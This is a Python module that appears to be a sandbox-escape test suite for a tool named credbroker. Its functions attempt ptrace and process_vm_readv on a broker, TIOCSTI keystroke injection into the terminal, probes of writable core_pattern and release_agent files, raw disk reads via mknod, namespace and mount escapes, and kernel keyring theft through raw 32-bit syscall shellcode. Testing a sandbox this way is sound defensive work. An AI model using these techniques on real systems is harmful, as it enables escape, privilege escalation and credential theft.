"""The way out by the kernel: tracing, signals, mounts, devices, namespaces, keys, the terminal, privileges."""

import ctypes
import errno
import fcntl
import mmap
import os
import platform
import signal
import stat
import subprocess
import sys
import time

from attempts import OUT, among, attempt, steal, told

libc = ctypes.CDLL(None, use_errno=True)
NUMBERS = {  # x86_64, aarch64
    "add_key": (248, 217), "request_key": (249, 218), "keyctl": (250, 219), "bpf": (321, 280), "init_module": (175, 105),
    "kexec_load": (246, 104), "pivot_root": (155, 41), "process_vm_readv": (310, 270), "perf_event_open": (298, 241),
    "open_tree": (428, 428), "pidfd_open": (434, 434), "pidfd_getfd": (438, 438),
}  # fmt: skip
COLUMN = {"x86_64": 0, "aarch64": 1}[platform.machine()]
NEWNS, NEWUSER, NEWPID = 0x00020000, 0x10000000, 0x20000000
RDONLY, REMOUNT, BIND = 1, 32, 4096


def right(result, what="it"):
    if result < 0:
        raise OSError(ctypes.get_errno(), what)
    return result


def syscall(name, *arguments):
    # Whole registers: what is passed on the stack is not widened.
    wide = [ctypes.c_long(argument) if isinstance(argument, int) else argument for argument in arguments]
    return right(libc.syscall(NUMBERS[name][COLUMN], *wide), name)


def mount(source, target, kind=None, flags=0, data=None):
    values = [value.encode() if isinstance(value, str) else value for value in (source, target, kind)]
    return right(libc.mount(*values, ctypes.c_ulong(flags), data), "mount")


def apart(function):
    """Runs it in a child, because it changes the process; its outcome."""
    read, write = os.pipe()
    child = os.fork()
    if child == 0:
        try:
            outcome = function()
        except OSError as error:
            outcome = errno.errorcode.get(error.errno, str(error.errno))
        except Exception as error:
            outcome = f"did not run: {error}"
        os.write(write, str(outcome).encode())
        os._exit(0)
    os.close(write)
    with os.fdopen(read) as file:
        outcome = file.read()
    os.waitpid(child, 0)
    return outcome or "did not run: it ended"


def others():
    return [int(pid) for pid in os.listdir("/proc") if pid.isdigit() and int(pid) != os.getpid()]


@attempt("trace another process: one that is seen")
def trace():
    traced = set()
    for pid in others():
        if libc.ptrace(16, pid, None, None) == 0:  # PTRACE_ATTACH
            os.waitpid(pid, 0x40000000)
            libc.ptrace(17, pid, None, None)
            # What it could read is in the memory that was taken: nothing more comes of it.
            traced.add(open(f"/proc/{pid}/comm").read().strip())
    return among(traced)


@attempt("trace a broker, by its number on the host")
def trace_broker():
    right(libc.ptrace(16, told()["broker's pid"], None, None), "ptrace")
    return "traced"


@attempt("read a broker's memory, by its number on the host")
def read_broker():
    buffer = ctypes.create_string_buffer(64)

    class Span(ctypes.Structure):
        _fields_ = [("at", ctypes.c_void_p), ("size", ctypes.c_size_t)]

    local, remote = Span(ctypes.addressof(buffer), 64), Span(0x1000, 64)
    syscall("process_vm_readv", told()["broker's pid"], ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
    return "read"


@attempt("kill a process of the host, by its number")
def kill():
    os.kill(told()["decoy"], signal.SIGKILL)
    return "killed"


@attempt("take a descriptor of a broker")
def take():
    pidfd = syscall("pidfd_open", told()["broker's pid"], 0)
    return f"got {syscall('pidfd_getfd', pidfd, 0, 0)}"


@attempt("signal the process group, everybody, and the terminal's group")
def groups():
    # The host has a process in the group of `run` that writes down what it hears.
    signal.signal(signal.SIGWINCH, signal.SIG_IGN)
    signal.signal(signal.SIGURG, signal.SIG_IGN)
    for target in (0, -1):
        for number in (signal.SIGWINCH, signal.SIGURG):
            try:
                os.kill(target, number)
            except OSError:
                continue
    return "done"


def terminals():
    """Descriptors of terminals: the standard ones, and the controlling one."""
    found = [number for number in (0, 1, 2) if os.isatty(number)]
    try:
        found.append(os.open("/dev/tty", os.O_RDWR | os.O_NOCTTY))
    except OSError:
        pass
    return found


@attempt("type into the terminal of run")
def type_into():
    outcomes = set()
    for terminal in terminals():
        try:
            for letter in b"echo owned\n":
                fcntl.ioctl(terminal, 0x5412, bytes([letter]))  # TIOCSTI
            outcomes.add("typed")
        except OSError as error:
            outcomes.add(errno.errorcode[error.errno])
    return among(outcomes)


@attempt("take over the terminal of run")
def take_over():
    outcomes = set()
    for terminal in terminals():
        for request, argument in ((0x540E, 1), (0x5410, os.getpgrp())):  # TIOCSCTTY, TIOCSPGRP
            try:
                fcntl.ioctl(terminal, request, argument if request == 0x540E else argument.to_bytes(4, sys.byteorder))
                outcomes.add("taken")
            except OSError as error:
                outcomes.add(errno.errorcode[error.errno])
    return among(outcomes)


def written(path):
    """Whether a file of the system opens for writing. Nothing is written: where it does, the host is at stake."""
    descriptor = os.open(path, os.O_WRONLY)
    os.close(descriptor)
    return "opened"


def writable(paths):
    found = set()
    for path in paths:
        try:
            written(path)
            found.add(path)
        except OSError:
            continue
    return among(found)


@attempt("the kernel's switches: what opens for writing")
def switches():
    return writable(
        "/proc/sys/kernel/core_pattern /proc/sys/kernel/modprobe /proc/sys/kernel/hotplug /proc/sysrq-trigger /proc/sys/vm/panic_on_oom "
        "/proc/sys/fs/binfmt_misc/register /sys/kernel/uevent_helper /sys/power/state /sys/kernel/vmcoreinfo "
        "/sys/fs/cgroup/cgroup.procs /sys/module/kernel/uevent /proc/sys/kernel/hostname /proc/irq/default_smp_affinity".split()
    )


@attempt("cgroups: a release_agent or a device list that opens for writing")
def cgroups():
    found = set()
    for at, _, files in os.walk("/sys/fs/cgroup"):
        found |= {
            os.path.join(at, name) for name in files if name in ("release_agent", "devices.allow", "notify_on_release")
        }
    return writable(found)


def put(path):
    with open(path, "w") as file:
        file.write("credbroker-ring was here\n")
    return "written"


@attempt("write to the host's programs")
def programs():
    outcomes = set()
    for directory in ("/usr", "/usr/bin", "/usr/local/bin", "/usr/lib", "/bin/../bin", "/lib/../lib"):
        try:
            outcomes.add(put(f"{directory}/{told()['mark']}"))
        except OSError as error:
            outcomes.add(errno.errorcode[error.errno])
    for program in ("/usr/bin/env", "/bin/sh"):
        try:
            outcomes.add(written(os.path.realpath(program)))
        except OSError as error:
            outcomes.add(errno.errorcode[error.errno])
    return among(outcomes)


@attempt("write to the host's /etc")
def etc():
    # Where it is the image's, it is written and nobody minds; the host looks at its own.
    return put(f"/etc/{told()['mark']}")


@attempt("write to credbroker, or beside it")
def own_program():
    import shutil

    program = shutil.which("credbroker")
    if program is None:
        raise FileNotFoundError(2, "credbroker is not in PATH")
    outcomes = set()
    for attack in (
        lambda: written(program),
        lambda: put(os.path.join(os.path.dirname(program), "git")),
        lambda: os.unlink(program),
    ):
        try:
            outcomes.add(attack() or "unlinked")
        except OSError as error:
            outcomes.add(errno.errorcode[error.errno])
    return among(outcomes)


@attempt("set-user-id programs: privileges that they give")
def setuid():
    # A Python that belongs to root, with the bit set, in a directory that is shared with the host.
    status = open("/proc/self/status").read()
    no_new = "NoNewPrivs:\t1" in status

    def gained():
        try:
            os.setgroups([])
            os.setgid(4242)
            os.setuid(4242)
        except OSError:
            pass
        before = os.geteuid()
        code = "import os; print(os.geteuid())"
        ended = subprocess.run([told()["setuid"], "-B", "-c", code], capture_output=True, text=True)
        return "none" if ended.stdout.strip() in (str(before), "") else f"euid {before} became {ended.stdout.strip()}"

    return f"{apart(gained)}; no_new_privs {'set' if no_new else 'not set'}"


DANGEROUS = {2: "DAC_READ_SEARCH", 12: "NET_ADMIN", 13: "NET_RAW", 16: "SYS_MODULE", 17: "SYS_RAWIO", 19: "SYS_PTRACE", 21: "SYS_ADMIN",
             22: "SYS_BOOT", 23: "SYS_NICE", 24: "SYS_RESOURCE", 25: "SYS_TIME", 27: "MKNOD", 30: "AUDIT_CONTROL", 33: "MAC_ADMIN",
             34: "SYSLOG", 36: "BLOCK_SUSPEND", 38: "PERFMON", 39: "BPF", 40: "CHECKPOINT_RESTORE"}  # fmt: skip


@attempt("capabilities of root's that are left, of those that lead out")
def capabilities():
    left = set()
    for line in open("/proc/self/status"):
        if line.startswith(("CapEff", "CapPrm", "CapBnd", "CapAmb", "CapInh")) and not line.startswith("CapBnd"):
            mask = int(line.split()[1], 16)
            left |= {name for bit, name in DANGEROUS.items() if mask >> bit & 1}
    return among(left)


@attempt("mount a file system")
def mount_something():
    os.makedirs("/tmp/mounted", exist_ok=True)
    mount("none", "/tmp/mounted", "tmpfs")
    return "mounted"


@attempt("make what is mounted read-only writable")
def remount():
    outcomes = set()
    for point in ("/usr", os.path.dirname(os.environ["CREDBROKER_SOCKET"])):
        try:
            mount(None, point, None, REMOUNT | BIND)
            outcomes.add("writable")
        except OSError as error:
            outcomes.add(errno.errorcode[error.errno])
    return among(outcomes)


@attempt("unmount what covers something")
def unmount():
    gone = set()
    for point in ("/proc/sys", "/proc", "/tmp", "/run", "/dev", "/sys"):
        if libc.umount2(point.encode(), 2) == 0:
            gone.add(point)
    return among(gone)


@attempt("make a device and read the host's disk")
def device():
    path = "/tmp/disk"
    for number in (os.makedev(254, 0), os.makedev(8, 0), os.makedev(259, 0)):
        try:
            os.mknod(path, stat.S_IFBLK | 0o600, number)
            with open(path, "rb") as file:
                return f"read {len(file.read(16))} bytes"
        except FileNotFoundError:
            continue
        except OSError as error:
            if error.errno not in (errno.ENXIO, errno.ENODEV):
                raise
        finally:
            if os.path.exists(path):
                os.unlink(path)
    return "no such disk"


@attempt("become root in a user namespace of one's own, and take the mounts apart")
def namespace():
    def inside():
        uid = os.getuid()
        right(libc.unshare(NEWUSER | NEWNS), "unshare")
        for name, value in (("setgroups", "deny"), ("uid_map", f"0 {uid} 1")):
            with open(f"/proc/self/{name}", "w") as file:
                file.write(value)
        gained = set()
        os.makedirs("/tmp/mine", exist_ok=True)
        for point in ("/usr", "/etc", os.path.dirname(os.environ["CREDBROKER_SOCKET"])):
            try:
                mount(None, point, None, REMOUNT | BIND)
                gained.add(f"{point} writable")
            except OSError:
                pass
        for point in ("/proc/sys", "/tmp", "/dev", "/usr"):
            if libc.umount2(point.encode(), 2) == 0:
                gained.add(f"{point} unmounted")
        for name, path in told()["paths"].items():
            if os.path.exists(path):
                gained.add(name)
        if libc.unshare(NEWPID) == 0:
            try:
                os.makedirs("/tmp/proc", exist_ok=True)
                mount("proc", "/tmp/proc", "proc")
                gained.add("a proc of its own")
            except OSError:
                pass
        return "a namespace, and nothing gained" if not gained else among(gained)

    return apart(inside)


@attempt("join a namespace of another process")
def join():
    joined = set()
    for pid in others():
        for kind in ("mnt", "pid", "net", "user", "ipc"):
            try:
                theirs, ours = os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY), os.stat(f"/proc/self/ns/{kind}").st_ino
            except OSError:
                continue
            try:
                if os.fstat(theirs).st_ino != ours and apart(lambda: right(libc.setns(theirs, 0)) or "joined") == "joined":
                    joined.add(f"{kind} of {pid}")
            finally:
                os.close(theirs)
    return among(joined)


@attempt("the host's kernel keyrings: a key that is read")
def keyrings():
    # KEYCTL_SEARCH and KEYCTL_READ in the thread's, process', session, user and user-session keyrings.
    found = set()
    for ring in (-1, -2, -3, -4, -5):
        for name in (told()["key"], "session-" + told()["key"]):
            try:
                key = syscall("keyctl", 10, ring, b"user", name.encode(), 0)
                buffer = ctypes.create_string_buffer(256)
                size = syscall("keyctl", 11, key, buffer, 256)
                steal(f"key {name} in {ring}", buffer.raw[:size])
                found.add({-3: "the session's", -4: "the user's", -5: "the user's session's"}.get(ring, str(ring)))
            except OSError:
                continue
    return among(found)


def small_call():
    """System calls as programs of 32 bits make them, and memory that they can name. Their numbers are others."""
    code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    # push rbx; mov eax, edi; ebx, esi; r10d, edx; edx, ecx; ecx, r10d; esi, r8d; edi, r9d; int 0x80; pop rbx; ret
    code.write(bytes.fromhex("53 89f8 89f3 4189d2 89ca 4489d1 4489c6 4489cf cd80 5b c3"))
    address = ctypes.addressof(ctypes.c_char.from_buffer(code))
    call = ctypes.CFUNCTYPE(ctypes.c_int, *[ctypes.c_uint] * 6)(address)
    low = mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40)  # MAP_32BIT
    return call, low, code  # The code is there for as long as somebody has it.


def keyctl_ways():
    """keyctl by every set of numbers that the kernel may know: what asks, given words and numbers."""

    def plain(number):
        def ask(*arguments):
            wide = [ctypes.c_long(word) if isinstance(word, int) else word for word in arguments]
            return right(libc.syscall(number, *wide), "keyctl")

        return ask

    number = NUMBERS["keyctl"][COLUMN]
    yield "keyctl", plain(number)
    if COLUMN != 0:
        return
    yield "keyctl of x32", plain(number | 0x40000000)
    if not os.path.exists("/proc/sys/abi/vsyscall32"):
        return  # This kernel runs no program of 32 bits.
    call, low, _code = small_call()
    base = ctypes.addressof(ctypes.c_char.from_buffer(low))

    def ask(*arguments):
        at, words, buffers = 0, [], []
        for word in arguments:
            if not isinstance(word, int):
                size = len(word)
                low[at : at + size] = bytes(word)
                buffers.append((word, at, size))
                word, at = base + at, at + size + 1
            words.append(word & 0xFFFFFFFF)
        result = call(288, *words, *[0] * (5 - len(words)))
        if result < 0:
            raise OSError(-result, "keyctl")
        for word, at, size in buffers:
            if not isinstance(word, bytes):
                word.raw = low[at : at + size]
        return result

    yield "keyctl of 32 bits", ask


@attempt("link the host's kernel keyrings, by every way to ask: a key that is read")
def linked():
    # The user's and its session's, which are others in a user namespace; the host's own, as the host and the kernel say.
    rings = {-4, -5, *told()["keyrings"]}
    try:
        with open("/proc/keys") as file:
            rings |= {int(line.split()[0], 16) for line in file if "keyring" in line}
    except OSError:
        pass  # Hidden in containers.

    def inside():
        outcomes = set()
        for way, keyctl in keyctl_ways():
            try:
                # KEYCTL_JOIN_SESSION_KEYRING: one of its own, that others of the sandbox do not have.
                keyctl(1, 0)
            except OSError as error:
                # The kernel may be without x32.
                outcomes |= {errno.errorcode[error.errno]} - {"ENOSYS"}
            for ring in rings:
                try:
                    # KEYCTL_LINK, KEYCTL_SEARCH, KEYCTL_READ.
                    keyctl(8, ring, -3)
                    key = keyctl(10, -3, b"user\0", told()["key"].encode() + b"\0", 0)
                    buffer = ctypes.create_string_buffer(256)
                    size = keyctl(11, key, buffer, 256)
                    steal(f"key in {ring}, by {way}", buffer.raw[:size])
                    outcomes.add("read")
                except OSError:
                    continue
        return among(outcomes)

    return apart(inside)


@attempt("the host's shared memory: a segment that is attached")
def shared_memory():
    segment = right(libc.shmget(told()["segment"], 0, 0), "shmget")
    libc.shmat.restype = ctypes.c_void_p
    at = libc.shmat(segment, None, 0o10000)
    if at == ctypes.c_void_p(-1).value:
        raise OSError(ctypes.get_errno(), "shmat")
    steal("segment", ctypes.string_at(at, 256))
    return "read"


@attempt("load code into the kernel")
def load():
    outcomes = set()
    for name, arguments in (
        ("init_module", (b"\x7fELF", 4, b"")),
        ("kexec_load", (0, 0, None, 0)),
        ("bpf", (5, ctypes.create_string_buffer(128), 128)),
    ):
        try:
            syscall(name, *arguments)
            outcomes.add(f"{name} done")
        except OSError as error:
            outcomes.add(errno.errorcode[error.errno])
    return among(outcomes)


@attempt("change the host's name and clock")
def name():
    outcomes = set()
    for attack in (
        lambda: right(libc.sethostname(b"owned", 5)),
        lambda: time.clock_settime(time.CLOCK_REALTIME, time.time()),
    ):
        try:
            attack()
            outcomes.add("done")
        except OSError as error:
            outcomes.add(errno.errorcode[error.errno])
    return among(outcomes)


@attempt("leave a process behind")
def outlive():
    # It writes for as long as it lives. The host looks when the command has ended.
    if os.fork() == 0:
        os.setsid()
        if os.fork():
            os._exit(0)
        for number in (signal.SIGHUP, signal.SIGTERM, signal.SIGINT, signal.SIGPIPE):
            signal.signal(number, signal.SIG_IGN)
        for descriptor in (0, 1, 2):
            os.close(descriptor)
        end = time.monotonic() + 120
        while time.monotonic() < end:
            with open(f"{OUT}/heartbeat", "w") as file:
                file.write(str(time.time()))
            time.sleep(0.1)
        os._exit(0)
    os.wait()
    while not os.path.exists(f"{OUT}/heartbeat"):
        time.sleep(0.02)
    return "started"
